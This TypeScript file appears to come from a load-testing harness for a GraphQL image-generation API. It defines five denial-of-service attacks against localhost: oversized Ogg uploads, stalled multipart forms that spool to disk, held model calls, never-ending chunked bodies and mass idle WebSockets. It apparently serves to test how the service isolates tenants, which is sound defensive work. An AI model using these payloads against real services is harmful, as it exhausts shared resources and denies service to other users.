import { oggOfStreamHeads } from './hostile-ogg';
import type { LoadGenerator } from './load/load-generator';
import { graphqlRequest, piecesOf, uploadRequest } from './load/request';

/** Where an organization attacks, with which key, and for how long. */
export interface AttackTarget {
  readonly port: number;
  readonly apiKey: string;
  readonly durationMs: number;
}

export type Attack = (generator: LoadGenerator, target: AttackTarget) => Promise<unknown>;

const MEGABYTE = 1024 * 1024;
const REQUEST_LINE = 'POST /graphql HTTP/1.1\r\n';
const DRAW = `mutation { generateImage(input: { model: "openai/gpt-image-2", prompt: "a fox" }) {
  generation { status } errors { code } } }`;

/** What one organization did to all others, by the name of what it took from them. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  /** Ogg files of 50,000 streams, 24 at a time, each as long in the parser as it is let. */
  probes(generator, { port, apiKey, durationMs }) {
    const content = [{ bytes: oggOfStreamHeads(50_000), times: 1 }];
    const upload = Buffer.concat([...piecesOf(uploadRequest(apiKey, 'heads.ogg', content))()]);
    // One that is answered is followed by another.
    const [head, rest] = [upload.subarray(0, REQUEST_LINE.length), upload.subarray(REQUEST_LINE.length)];
    const held = [head, Buffer.from('Connection: close\r\n'), rest].map((bytes) => ({ bytes, times: 1 }));
    return generator.runHeld({ port, held, drip: null, connections: 24, durationMs });
  },
  /** Forms whose first part has to wait for the second, which never comes: 40 MB each on the disk. */
  spool(generator, { port, apiKey, durationMs }) {
    const head = requestHead(apiKey, 'multipart/form-data; boundary=spool', 'Content-Length: 60000000');
    const form = [
      formField('operations', JSON.stringify({ query: OUT_OF_ORDER, variables: { a: null, b: null } })),
      formField('map', '{"0":["variables.a"],"1":["variables.b"]}'),
      '--spool\r\nContent-Disposition: form-data; name="0"; filename="a.png"\r\n\r\n',
    ].join('');
    const second = '\r\n--spool\r\nContent-Disposition: form-data; name="1"; filename="b.png"\r\n\r\n';
    const held = [
      { bytes: Buffer.from(head + form), times: 1 },
      { bytes: Buffer.alloc(MEGABYTE), times: 40 },
      { bytes: Buffer.from(second), times: 1 },
    ];
    const drip = { bytes: Buffer.from('x'), everyMs: 1_000 };
    return generator.runHeld({ port, held, drip, connections: 20, durationMs });
  },
  /** Calls of a model that never answers, whose clients hang up and call again. */
  async calls(generator, { port, apiKey, durationMs }) {
    const held = [{ bytes: Buffer.concat([...piecesOf(graphqlRequest(apiKey, '', DRAW))()]), times: 1 }];
    for (let part = 0; part < 2; part += 1) {
      await generator.runHeld({ port, held, drip: null, connections: 130, durationMs: durationMs / 2 });
    }
  },
  /** JSON bodies of an unknown length that never end. */
  bodies(generator, { port, apiKey, durationMs }) {
    const head = requestHead(apiKey, 'application/json', 'Transfer-Encoding: chunked');
    const held = [{ bytes: Buffer.from(`${head}1\r\n{\r\n`), times: 1 }];
    const drip = { bytes: Buffer.from('1\r\n \r\n'), everyMs: 1_000 };
    return generator.runHeld({ port, held, drip, connections: 40, durationMs });
  },
  /** WebSockets that say nothing, of nobody in particular. */
  sockets(generator, { port, durationMs }) {
    const held = [{ bytes: Buffer.from(webSocketRequest(null)), times: 1 }];
    return generator.runHeld({ port, held, drip: null, connections: 520, durationMs });
  },
};

const OUT_OF_ORDER = `mutation ($a: Upload!, $b: Upload!) {
  b: uploadFile(input: { file: $b }) { errors { code } }
  a: uploadFile(input: { file: $a }) { errors { code } }
}`;

/** @param apiKey null: whose it is would be said in the first message */
export function webSocketRequest(apiKey: string | null): string {
  return [
    'GET /graphql HTTP/1.1',
    'Host: 127.0.0.1',
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    'Sec-WebSocket-Protocol: graphql-transport-ws',
    ...(apiKey === null ? [] : [`Authorization: Bearer ${apiKey}`]),
    '\r\n',
  ].join('\r\n');
}

function requestHead(apiKey: string, contentType: string, length: string): string {
  return [
    'POST /graphql HTTP/1.1',
    'Host: 127.0.0.1',
    `Authorization: Bearer ${apiKey}`,
    `Content-Type: ${contentType}`,
    length,
    'Apollo-Require-Preflight: 1',
    '\r\n',
  ].join('\r\n');
}

function formField(name: string, value: string): string {
  return `--spool\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
}
